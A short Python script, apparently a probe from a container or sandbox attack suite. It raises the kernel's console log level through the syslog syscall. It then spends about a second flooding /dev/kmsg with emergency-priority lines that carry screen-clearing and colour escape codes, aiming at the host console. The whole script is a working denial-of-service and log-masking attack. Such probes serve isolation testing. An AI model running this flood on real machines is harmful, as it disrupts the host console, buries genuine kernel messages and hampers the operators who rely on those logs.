# The kernel's own log, at its loudest and as fast as it goes: what it says goes to the host as the console does.
import time
from attack import syscall

try:
    syscall(103, 8, 0, 8)
except OSError as error:
    print("no louder:", error.strerror)
print("flooding the kernel's log", flush=True)
end, lines = time.monotonic() + 1.2, 0
with open("/dev/kmsg", "wb", buffering=0) as log:
    while time.monotonic() < end:
        log.write(b"<0>\x1b[2J\x1b[31m" + b"A" * 800 + b"\n")
        lines += 1
print("wrote", lines, "lines")
